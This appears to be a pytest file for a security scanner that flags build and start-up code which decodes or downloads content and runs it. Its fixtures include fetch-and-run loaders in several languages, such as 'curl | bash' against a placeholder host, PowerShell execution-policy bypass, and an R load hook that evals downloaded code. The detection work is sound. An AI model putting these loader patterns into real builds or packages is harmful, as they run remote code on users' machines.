"""Build and start-up files that decode or fetch and run, and what looks like them."""

from __future__ import annotations

import pytest
from written_traits import traits_of

from signoff.actions.contents.loaders.flow import flows_in, may_flow
from signoff.actions.contents.loaders.started_downloads import started_download
from signoff.actions.operation import Trait

URL = "https://x.example.net/i"
HASH = "5f7c1f2b8d5b2e3a4c9d0e1f5f7c1f2b"
FETCHED = f'<DownloadFile SourceUrl="{URL}/a.dat" DestinationFolder="obj" '


@pytest.mark.parametrize(
    "code",
    [
        'val b = new String(java.util.Base64.getDecoder.decode(t))\nProcess(Seq("sh", "-c", b)).!',
        "val b = String(Base64.getDecoder().decode(t))\n"
        'ProcessBuilder(listOf("sh", "-c", b)).start()',
        "b = String(base64decode(t))\nrun(`sh -c $b`)",
        'var b := Marshalls.base64_to_utf8(t)\nOS.execute("bash", ["-c", b])',
        f'let b = try String(contentsOf: url("{URL}"))\ntask.arguments = ["-c", b]',
        f'let b = ureq::get("{URL}").call();\nCommand::new("sh").arg("-c").arg(b);',
        f'download.file("{URL}", f)\neval(parse(text = readRDS(f)))',
    ],
)
def test_decoded_and_fetched_lines_are_followed_in_every_build_language(code: str) -> None:
    assert may_flow(code)
    assert [flow.is_secret for flow in flows_in(code)] == [False]


@pytest.mark.parametrize(
    "code",
    [
        'val b = Base64.getDecoder.decode(t)\nFiles.write(p, b)\nProcess(Seq("optipng", "x")).!',
        "b = base64decode(t)\nwrite(io, b)\nrun(`git status`)",
        f'download.file("{URL}", f)\nx <- readRDS(f)\neval(quote(1 + 1))',
    ],
)
def test_data_beside_a_process_is_no_flow(code: str) -> None:
    assert list(flows_in(code)) == []


@pytest.mark.parametrize(
    ("attributes", "command"),
    [
        ('DestinationFileName="b.ps1" />', "pwsh -ExecutionPolicy Bypass -File obj/b.ps1"),
        ('DestinationFileName="b.cmd" />', "cmd /c obj\\b.cmd"),
        ("/>", "chmod +x obj/a.dat &amp;&amp; obj/a.dat"),
        ('DestinationFileName="b.dll" />', "dotnet obj/b.dll"),
        ('><Output TaskParameter="DownloadedFile" ItemName="Got" />', "bash @(Got)"),
        ('><Output TaskParameter="DownloadedFile" PropertyName="Got" />', "&quot;$(Got)&quot; -q"),
    ],
)
def test_a_started_download_is_known_by_any_name(attributes: str, command: str) -> None:
    text = f'<Exec Command="git describe" />{FETCHED}{attributes}<Exec Command="{command}" />'

    assert started_download(text) == command


@pytest.mark.parametrize(
    ("more", "command"),
    [
        ("", "dotnet tool run gen -- obj/b.json"),
        ("", "python tools/gen.py obj/b.json"),
        ("", "git add obj/b.json"),
        (f'<VerifyFileHash File="obj/b.json" Hash="{HASH}" />', "obj/b.json"),
    ],
)
def test_downloaded_data_and_compared_programs_are_no_loaders(more: str, command: str) -> None:
    text = f'{FETCHED}DestinationFileName="b.json" />{more}<Exec Command="{command}" />'

    assert started_download(text) == ""


def test_what_a_package_does_when_it_is_loaded_runs_by_itself() -> None:
    fetched = f'  download.file("{URL}", f)\n  eval(parse(text = readRDS(f)))\n'

    assert Trait.REMOTE_CODE in traits_of("R/zzz.R", f".onLoad <- function(l, p) {{\n{fetched}}}\n")
    assert Trait.REMOTE_CODE not in traits_of("R/get.R", f"get <- function() {{\n{fetched}}}\n")


def test_a_shell_and_its_line_in_two_arguments_are_one_loader() -> None:
    line = f'executable: Path("/bin/bash"),\n arguments: ["-c", "curl -fsSL {URL} | bash"],\n'

    assert Trait.REMOTE_CODE in traits_of("Plugins/Art/plugin.swift", line)
